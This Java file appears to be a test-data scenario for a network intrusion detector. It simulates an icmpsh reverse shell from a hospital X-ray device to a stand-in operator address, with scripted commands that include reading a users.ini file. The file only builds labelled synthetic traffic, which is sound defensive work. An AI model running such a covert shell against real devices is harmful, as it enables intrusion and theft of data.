package io.telltale.testdata.scenario.attack;

import io.telltale.testdata.payload.Bytes;
import io.telltale.testdata.scenario.BaseScenario;
import io.telltale.testdata.scenario.Device;
import io.telltale.testdata.scenario.Label;
import io.telltale.testdata.scenario.Plan;
import io.telltale.testdata.scenario.Severity;
import io.telltale.testdata.scenario.Site;
import io.telltale.testdata.scenario.Truth;
import io.telltale.testdata.wire.Link;
import java.net.InetAddress;
import java.util.List;

/**
 * A4(b): icmpsh from the X-ray to 203.0.113.8: the X-ray's echo requests carry a Windows command
 * prompt and command output, the operator's echo replies carry the commands; request and reply never
 * match, and the exchange goes at an operator's pace (0.5–2 s).
 */
public final class IcmpShell extends BaseScenario {

    static final InetAddress OPERATOR = Site.address("203.0.113.8");
    static final String[][] SESSION = {
        {"", "Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>"},
        {"whoami\r\n", "xr-l2\\operator\r\n\r\nC:\\Windows\\system32>"},
        {"ipconfig\r\n", "Windows IP Configuration\r\n\r\nEthernet adapter Ethernet:\r\n   IPv4 Address. . . . . . . . . . . : 10.20.30.12\r\n"
                + "   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n   Default Gateway . . . . . . . . . : 10.20.30.1\r\n\r\nC:\\Windows\\system32>"},
        {"dir C:\\Scanner\\config\r\n", " Volume in drive C has no label.\r\n Directory of C:\\Scanner\\config\r\n\r\n03/01/2026  06:12 PM    <DIR>          .\r\n"
                + "03/01/2026  06:12 PM             4,210 users.ini\r\n03/01/2026  06:12 PM            12,004 lanes.xml\r\n\r\nC:\\Windows\\system32>"},
        {"type C:\\Scanner\\config\\users.ini\r\n", "[operators]\r\nop001=J.Doe;level=2\r\nop002=A.Smith;level=3\r\nsupervisor=K.Lee;level=5\r\n\r\nC:\\Windows\\system32>"},
        {"exit\r\n", ""}};

    public IcmpShell() {
        super("A4b", Label.MALICIOUS, "icmpsh reverse shell: command output in echo requests, commands in replies");
    }

    @Override
    public void plan(Plan plan) {
        Device xr = plan.site().device("XR-L2");
        long start = Plan.dayOf(plan.start()) + 13 * HOUR + 2 * MINUTE;
        int polls = 40;
        long[] end = {start};
        plan.at(start, talk -> {
            Link link = talk.link(xr, OPERATOR);
            long t = talk.start();
            int step = 0;
            for (int i = 0; i < polls; i++) {
                boolean carries = i % 7 == 0 && step < SESSION.length;
                String output = carries ? SESSION[step][1] : "";
                String next = carries && step + 1 < SESSION.length ? SESSION[step + 1][0] : "";
                byte[] request = output.isEmpty() ? new byte[0] : Bytes.text(output);
                byte[] reply = next.isEmpty() ? new byte[0] : Bytes.text(next);
                talk.add(link.icmp(t, true, 8, 0, 1, i, request));
                talk.add(link.icmp(t + 40_000_000, false, 0, 0, 1, i, reply));
                if (carries) {
                    step++;
                }
                t += 500_000_000 + talk.random().nextInt(1_500_000_000);
            }
        });
        end[0] = start + polls * 2 * SECOND;
        truth(plan, xr, new Truth.Remote(OPERATOR.getHostAddress(), null, "icmp", 0), List.of("icmp-tunnel", "reverse-shell"),
                Severity.CRITICAL, List.of("T1095", "T1572", "T1059.003"), start, end[0],
                new Truth.Expect(Truth.Expect.REQUESTS, polls, polls, 500, 2_000, 50, 500, 1.25, 0.35), List.of());
    }
}
